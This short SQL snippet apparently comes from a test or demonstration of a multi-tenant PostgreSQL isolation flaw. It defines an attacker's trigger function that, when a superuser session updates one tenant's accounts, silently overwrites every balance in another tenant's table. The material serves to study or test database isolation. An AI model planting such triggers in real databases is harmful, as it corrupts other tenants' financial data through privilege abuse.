-- The attacker's function, run by a superuser, writes to another tenant instead of reading.
CREATE FUNCTION harms() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'UPDATE tenant_beta.accounts SET balance = -1'; RETURN NEW; END $$;
CREATE TRIGGER harms BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION harms();
-- @session operator
UPDATE tenant_alpha.accounts SET balance = 0 WHERE id = 1;
